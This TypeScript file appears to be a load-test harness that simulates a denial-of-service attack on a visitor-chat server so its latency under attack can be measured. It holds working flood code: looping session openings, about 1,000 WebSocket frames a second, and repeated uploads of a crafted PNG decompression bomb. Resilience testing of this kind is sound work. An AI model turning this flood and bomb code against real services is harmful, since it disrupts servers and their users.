import { request } from 'node:http';
import { constants, setPriority } from 'node:os';
import { crc32, deflateSync } from 'node:zlib';
import { WebSocket } from 'ws';

/*
 * The floods of attack 28, in a process of their own, so that what they take of it does not count as the latency of
 * others. It is forked with the server's origin, says `ready`, floods from `begin` to `end`, and answers `end` with the
 * number of calls and frames. It has the lowest priority: an attacker's machine is another, and takes nothing from the
 * server's processors.
 */

export type FloodCounts = Record<string, number>;

/** Another address than the measured clients', with the usual limits. */
const floodAddress = '127.0.0.2';
/** Calls that open visitors, and that upload pictures, at a time. */
const lanes = 4;
const uploadLanes = 2;
const bombSide = 20_000;
const origin = process.argv[2]!;

const page = {
  site: 'demo',
  URL: 'http://shop.example/flood',
  title: 'flood',
  referrer: '',
  language: 'zh-CN',
  screen: '',
};

/** A picture of a few hundred kilobytes that has 400 million pixels. */
const bomb = makePicture(bombSide);

let end: (() => FloodCounts) | undefined;
process.on('message', (word) => {
  if (word === 'begin') end = flood();
  else if (word === 'end') process.send!(end!());
});
process.on('disconnect', () => process.exit());
setPriority(constants.priority.PRIORITY_LOW);
process.send!('ready');

/** Begins all floods; returns what ends them. */
function flood(): () => FloodCounts {
  let isOver = false;
  let hasBegun = false;
  const sockets = new Set<WebSocket>();
  const counts: FloodCounts = {};
  const count = (what: string) => {
    counts[what] = (counts[what] ?? 0) + 1;
  };

  async function openVisitors(): Promise<void> {
    while (!isOver) {
      const { status, text } = await post('/api/visitor/hello', JSON.stringify(page), {
        'content-type': 'application/json',
      });
      count(`hello ${status}`);
      if (status === 200) beginOnce(credentialOf(text));
    }
  }

  /** The first visitor of a flood writes, and uploads. */
  function beginOnce(credential: string): void {
    if (hasBegun) return;
    hasBegun = true;
    sendFrames(credential);
    for (let lane = 0; lane < uploadLanes; lane++) void uploadBombs(credential);
  }

  /** 1,000 frames a second, on a new socket when the old one is closed. */
  function sendFrames(credential: string): void {
    if (isOver) return;
    const socket = new WebSocket(`${origin.replace('http', 'ws')}/ws/visitor`, { localAddress: floodAddress });
    sockets.add(socket);
    let timer: NodeJS.Timeout | undefined;
    socket.on('error', () => undefined);
    socket.on('open', () => {
      socket.send(JSON.stringify({ type: 'visitor', code: '5001', credential }));
      let sent = 0;
      timer = setInterval(() => {
        for (let n = 0; n < 10 && socket.readyState === WebSocket.OPEN; n++) {
          socket.send(JSON.stringify({ code: '6000', onlyID: `flood-${sent++}`, msg: 'flood' }));
          count('frames');
        }
      }, 10);
    });
    socket.on('close', () => {
      clearInterval(timer);
      sockets.delete(socket);
      setTimeout(() => sendFrames(credential), 100);
    });
  }

  async function uploadBombs(credential: string): Promise<void> {
    const form =
      '--bomb\r\ncontent-disposition: form-data; name="file"; filename="a.png"\r\ncontent-type: image/png\r\n\r\n';
    const body = Buffer.concat([Buffer.from(form), bomb, Buffer.from('\r\n--bomb--\r\n')]);
    const headers = { 'content-type': 'multipart/form-data; boundary=bomb', authorization: `Bearer ${credential}` };
    while (!isOver) count(`picture ${(await post('/api/visitor/upload', body, headers)).status}`);
  }

  for (let lane = 0; lane < lanes; lane++) void openVisitors();
  return () => {
    isOver = true;
    for (const socket of sockets) socket.terminate();
    return counts;
  };
}

function credentialOf(text: string): string {
  return (JSON.parse(text) as { data: { credential: string } }).data.credential;
}

function post(
  path: string,
  body: string | Buffer,
  headers: Record<string, string>,
): Promise<{ status: number; text: string }> {
  return new Promise((resolve) => {
    const call = request(origin + path, { method: 'POST', headers, localAddress: floodAddress }, async (answer) => {
      const pieces: Buffer[] = [];
      try {
        for await (const piece of answer) pieces.push(piece as Buffer);
      } catch {}
      resolve({ status: answer.statusCode ?? 0, text: Buffer.concat(pieces).toString() });
    });
    call.on('error', () => resolve({ status: 0, text: '' }));
    call.end(body);
  });
}

function makePicture(side: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const named = Buffer.concat([Buffer.from(type), data]);
    const around = Buffer.alloc(8);
    around.writeUInt32BE(data.length, 0);
    around.writeUInt32BE(crc32(named), 4);
    return Buffer.concat([around.subarray(0, 4), named, around.subarray(4)]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side, 0);
  head.writeUInt32BE(side, 4);
  head.set([8, 0, 0, 0, 0], 8);
  const rows = Buffer.alloc((side + 1) * side);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    signature,
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}
